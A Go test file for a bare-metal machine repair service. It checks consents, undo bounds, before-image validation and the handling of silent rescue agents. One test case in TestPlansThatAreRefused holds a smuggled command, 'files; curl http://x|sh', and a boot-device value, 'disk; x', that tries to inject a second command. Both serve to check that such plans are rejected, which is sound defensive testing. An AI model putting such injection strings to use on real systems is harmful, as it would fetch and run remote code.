package node

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"salvor/diagnose"
	"salvor/driver"
	"salvor/job"
	"salvor/metal"
	"salvor/problem"
	"salvor/record"
	"salvor/repair"
	"salvor/test/fixture"
	"salvor/test/must"
	"salvor/wire/agent"
)

// bootWith is the boot interface of a bench whose plans are changed.
type bootWith struct {
	*bench
	change func(*metal.BootPlan)
}

func (w bootWith) Plan(n *metal.Node, r driver.Ramdisk) (*metal.BootPlan, error) {
	plan, err := w.bench.Plan(n, r)
	if err == nil {
		w.change(plan)
	}
	return plan, err
}

// TestRepairNeedsABootThatStays: a machine that a power cut would leave without our ramdisk, or with an agent that nobody can call, is not written to.
func TestRepairNeedsABootThatStays(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		change  func(*metal.BootPlan)
		rescued bool // the owner asked for the rescue, and the machine is on its tenant's network
		want    string
	}{
		"URL":        {func(p *metal.BootPlan) { p.Method = metal.BootHTTP }, false, "keeps a boot by URL for one boot"},
		"token once": {func(p *metal.BootPlan) { p.CarryToken = false }, false, "gets its token once"},
		"network":    {func(p *metal.BootPlan) { p.Method = metal.BootIPXE }, true, "is on its tenant's network now"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newRepaired(t, metal.PowerOff)
			b.con.drivers["bench"].Boot["bench"] = bootWith{b, c.change}
			b.run(t)
			if c.rescued {
				b.start(t, metal.ToRescue)
				b.ends(t)
			}
			r := b.repair(t, metal.RepairArgs{Consents: filesConsent, Digest: menderDigest()})
			if r.State != metal.RepairFailed || !strings.Contains(r.Problem, c.want) || b.mender.written != 0 {
				t.Errorf("repair %s (%q), %d chunks written; want %s, %q, 0", r.State, r.Problem, b.mender.written, metal.RepairFailed, c.want)
			}
		})
	}
}

// TestUndoIsBoundedPageByPage: what undoes a repair is not stored beyond its bound, however many pages an agent gives.
func TestUndoIsBoundedPageByPage(t *testing.T) {
	t.Parallel()
	b := newRepaired(t, metal.PowerOff)
	b.con.UndoBytes = 100
	b.run(t)
	r := b.repair(t, metal.RepairArgs{Consents: filesConsent, Digest: menderDigest()})
	if r.State != metal.RepairFailed || r.UndoPages != 0 {
		t.Errorf("repair %s with %d pages; want %s, none", r.State, r.UndoPages, metal.RepairFailed)
	}
	if _, err := b.store.RepairPart(t.Context(), nil, b.node, r.ID, metal.RepairImagesPart(1)); !problem.Is(err, problem.NotFound) {
		t.Errorf("the first page, which is above the bound: %v; want not found", err)
	}
}

// TestRepairNeedsAllBeforeImages: nothing is written if the agent gives fewer before-images than its plan changes chunks.
func TestRepairNeedsAllBeforeImages(t *testing.T) {
	t.Parallel()
	b := newRepaired(t, metal.PowerOff)
	b.mender.fewImages = true
	b.run(t)
	r := b.repair(t, metal.RepairArgs{Consents: filesConsent, Digest: menderDigest()})
	if r.State != metal.RepairFailed || !strings.Contains(r.Problem, "before-images of 1 chunks, and its plan changes 2") || b.mender.written != 0 {
		t.Errorf("repair %s (%q), %d chunks written; want %s, both counts, 0", r.State, r.Problem, b.mender.written, metal.RepairFailed)
	}
}

// TestBeforeImagesLieOnTheirDisks: a before-image that would be put back beside the disks of the plan is refused.
func TestBeforeImagesLieOnTheirDisks(t *testing.T) {
	t.Parallel()
	plan := &repair.Plan{Disks: []repair.DiskChange{{Path: "/dev/sda", Size: 2*repair.ChunkSize + 512}}}
	read := func(change func(*agent.ImageChunk)) error {
		k := agent.ImageChunk{Offset: repair.ChunkSize, Length: repair.ChunkSize, Before: []byte("x"), After: make([]byte, sha256.Size)}
		change(&k)
		raw := must.Get(json.Marshal(agent.ImagePage{Chunks: []agent.ImageChunk{k}}))(t)
		_, err := readPage(raw, plan)
		return err
	}
	if err := read(func(*agent.ImageChunk) {}); err != nil {
		t.Errorf("a before-image on the disk: %v", err)
	}
	for name, change := range map[string]func(*agent.ImageChunk){
		"beyond the end":   func(k *agent.ImageChunk) { k.Offset = 2 * repair.ChunkSize },
		"before the begin": func(k *agent.ImageChunk) { k.Offset = -repair.ChunkSize },
		"amid a chunk":     func(k *agent.ImageChunk) { k.Offset++ },
		"another disk":     func(k *agent.ImageChunk) { k.Disk = 1 },
		"disk -1":          func(k *agent.ImageChunk) { k.Disk = -1 },
		"no length":        func(k *agent.ImageChunk) { k.Length = 0 },
		"too long":         func(k *agent.ImageChunk) { k.Offset, k.Length = 0, repair.ChunkSize+1 },
		"no content":       func(k *agent.ImageChunk) { k.Before = nil },
		"too much content": func(k *agent.ImageChunk) { k.Before = bytes.Repeat([]byte("x"), maxChunkSize+1) },
		"no digest":        func(k *agent.ImageChunk) { k.After = nil },
	} {
		if err := read(change); !problem.Is(err, problem.Invalid) {
			t.Errorf("%s: %v; want invalid", name, err)
		}
	}
}

// TestPlansThatAreRefused: a plan is refused if its digest names another plan, and if the plan needs the consent to lose data, also for an undo.
func TestPlansThatAreRefused(t *testing.T) {
	t.Parallel()
	sealed := func(consents ...diagnose.Consent) *repair.Plan {
		p := &repair.Plan{Version: repair.PlanVersion, Consents: consents}
		p.Seal()
		return p
	}
	setting := func(kind repair.SettingKind, after string) *repair.Plan {
		p := &repair.Plan{Version: repair.PlanVersion, Settings: []repair.Setting{{Kind: kind, After: after}}}
		p.Seal()
		return p
	}
	lie, newer := sealed(diagnose.ConsentFiles), sealed()
	lie.Mended, newer.Version = []string{"fstab-device-missing"}, repair.PlanVersion+1
	all := []diagnose.Consent{diagnose.ConsentFiles, diagnose.ConsentData}
	for name, c := range map[string]struct {
		plan    *repair.Plan
		offered []diagnose.Consent
		undo    bool
		want    string // empty: the plan is taken
	}{
		"offered":         {sealed(diagnose.ConsentFiles), filesConsent, false, ""},
		"undo":            {sealed(diagnose.ConsentFiles), nil, true, ""},
		"not offered":     {sealed(diagnose.ConsentBoot), filesConsent, false, "was not offered"},
		"data of an undo": {sealed(diagnose.ConsentData), nil, true, "nobody can give"},
		"data offered":    {sealed(diagnose.ConsentData), all, false, "nobody can give"},
		"a command":       {sealed("files; curl http://x|sh"), nil, true, "nobody can give"},
		"boot device":     {setting(repair.BootDevice, "disk"), nil, true, ""},
		"another device":  {setting(repair.BootDevice, "disk; x"), nil, true, "sets the boot device"},
		"another setting": {setting("firmware", "x"), nil, true, "unknown kind"},
		"digest":          {lie, filesConsent, false, "does not have the digest"},
		"version":         {newer, filesConsent, false, "build the ramdisk anew"},
	} {
		_, err := readPlan(must.Get(json.Marshal(c.plan))(t), c.offered, c.undo)
		if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%s: %v; want %q", name, err, c.want)
		}
	}
}

// TestExactUndoIsOfItsRescue: before-images are not put back over what the machine's own system may have written since.
func TestExactUndoIsOfItsRescue(t *testing.T) {
	t.Parallel()
	for _, keep := range []bool{true, false} {
		b := newRepaired(t, metal.PowerOff)
		b.run(t)
		r := b.repair(t, metal.RepairArgs{Consents: filesConsent, Digest: menderDigest(), KeepRescue: keep})
		run := &job.Run{Job: job.Job{Args: must.Get(json.Marshal(writeArgs{Repair: "undo", Undoes: r.ID, Exact: true}))(t)}}
		err := repairWrites{b.con}.checkSession(t.Context(), run, must.Get(b.con.machine(t.Context(), b.node))(t))
		if keep && err != nil || !keep && !problem.Is(err, problem.Conflict) {
			t.Errorf("exact undo, in the same rescue %v: %v; want a conflict only in another one", keep, err)
		}
	}
}

// TestUndoNeedsTheConsents: who names the digest of an undo, and does not consent to what the undo changes, gets the plan and no change.
func TestUndoNeedsTheConsents(t *testing.T) {
	t.Parallel()
	b := newRepaired(t, metal.PowerOff)
	b.run(t)
	r := b.repair(t, metal.RepairArgs{Consents: filesConsent, Digest: menderDigest(), KeepRescue: true})
	must.Get(b.repairs().BeginUndo(t.Context(), b.node, r.ID, metal.RepairArgs{Digest: r.Digest}, record.Asker{User: "ann"}))(t)
	b.ends(t)
	if undo := b.newestRepair(t); undo.State != metal.RepairPlanned || !slices.Equal(b.mender.disk, repairedDisk) {
		t.Errorf("undo %s (%q), disk %q; want %s, %q", undo.State, undo.Problem, b.mender.disk, metal.RepairPlanned, repairedDisk)
	}
}

// TestRepairWithoutAConsentEnds: a machine does not stay in rescue for a consent that nobody gives.
func TestRepairWithoutAConsentEnds(t *testing.T) {
	t.Parallel()
	b := newRepaired(t, metal.PowerOff)
	var ahead atomic.Int64
	b.con.Now = func() time.Time { return time.Now().Add(time.Duration(ahead.Load())) }
	b.run(t)
	must.Get(b.repairs().Begin(t.Context(), b.node, metal.RepairArgs{Consents: filesConsent, WaitForConsent: true}, record.Asker{User: "ann"}))(t)
	b.awaits(t, metal.RepairAwaitingConsent)
	ahead.Store(int64(metal.ConsentTime + time.Minute))
	fixture.PollActing(t, "the repair has ended", b.poke, func() bool { r := b.newestRepair(t); return !r.IsRunning() }, b.picture)
	b.ends(t)
	if r := b.newestRepair(t); r.State != metal.RepairPlanned || !strings.Contains(r.Problem, "nobody consented") || !slices.Equal(b.mender.disk, originalDisk) {
		t.Errorf("repair %s (%q), disk %q; want %s, nobody consented, %q", r.State, r.Problem, b.mender.disk, metal.RepairPlanned, originalDisk)
	}
}

// halfWritten is a bench in rescue, and a job amid the writing whose agent has been silent for an hour.
func halfWritten(t *testing.T) (*bench, *job.Run, *managedNode) {
	t.Helper()
	b := newRepaired(t, metal.PowerOff)
	b.run(t)
	b.start(t, metal.ToRescue)
	b.ends(t)
	run := &job.Run{Job: job.Job{Args: json.RawMessage(`{"repair": "r"}`), Memo: map[string]string{halfNote: "yes", silentNote: time.Now().Add(-time.Hour).UTC().Format(time.RFC3339Nano)}}}
	return b, run, must.Get(b.con.machine(context.Background(), b.node))(t)
}

// TestSilentAgentOfAMachineThatStaysOn: the machine of an agent that is silent is restarted, but for one whose owner disabled that.
func TestSilentAgentOfAMachineThatStaysOn(t *testing.T) {
	t.Parallel()
	for _, disabled := range []bool{false, true} {
		b, run, m := halfWritten(t)
		m.node.DisablePowerOff = disabled
		repairWrites{b.con}.awaitAgent(t.Context(), run, m, problem.Unavailablef("no answer"))
		b.mu.Lock()
		restarted := b.serving == "" // the agent of the rescue is gone
		b.mu.Unlock()
		if restarted == disabled || (run.Memo[restartedNote] != "") == disabled {
			t.Errorf("disable_power_off %v: restarted %v, note %q; want %v", disabled, restarted, run.Memo[restartedNote], !disabled)
		}
	}
}

// TestAgentThatStillWritesIsLeft: an agent that carries a command out is not silent, so its machine is not restarted amid the writing.
func TestAgentThatStillWritesIsLeft(t *testing.T) {
	t.Parallel()
	b, run, m := halfWritten(t)
	b.mu.Lock()
	b.mender.commands = []agent.Result{{ID: "r1", Name: "write", Status: agent.Running}}
	b.mu.Unlock()
	repairWrites{b.con}.restoreChunks(t.Context(), run, m)
	if run.Memo[silentNote] != "" || run.Memo[restartedNote] != "" || run.Memo[halfNote] == "" {
		t.Errorf("notes %q; want the agent to be heard, no restart, and disks that are half-written", run.Memo)
	}
}

// TestHalfWrittenMachineStaysArmed: the undo of the armed boot leaves our ramdisk with a machine whose disks are half-written.
func TestHalfWrittenMachineStaysArmed(t *testing.T) {
	t.Parallel()
	for _, half := range []string{"yes", ""} {
		b, run, m := halfWritten(t)
		run.Note(halfNote, half)
		b.mu.Lock()
		b.media = "armed"
		b.mu.Unlock()
		repairWrites{b.con}.disarmUnlessHalf(t.Context(), run, m)
		b.mu.Lock()
		if armed := b.media != ""; armed != (half != "") {
			t.Errorf("half-written %q: armed %v", half, armed)
		}
		b.mu.Unlock()
	}
}

// TestConsoleTextIsBounded: a machine that writes without end does not fill the memory of its conductor.
func TestConsoleTextIsBounded(t *testing.T) {
	t.Parallel()
	r := &consoleRecording{ownSystem: true, now: time.Now}
	for range 5 {
		must.Get(r.Write(bytes.Repeat([]byte("x"), diagnose.MaxConsole)))(t)
	}
	must.Get(r.Write([]byte("the end")))(t)
	if len(r.text) > 2*diagnose.MaxConsole || !bytes.HasSuffix(r.text, []byte("the end")) {
		t.Errorf("%d bytes are held, the last of them %q; want at most %d, and what was said last", len(r.text), r.text[len(r.text)-7:], 2*diagnose.MaxConsole)
	}
}
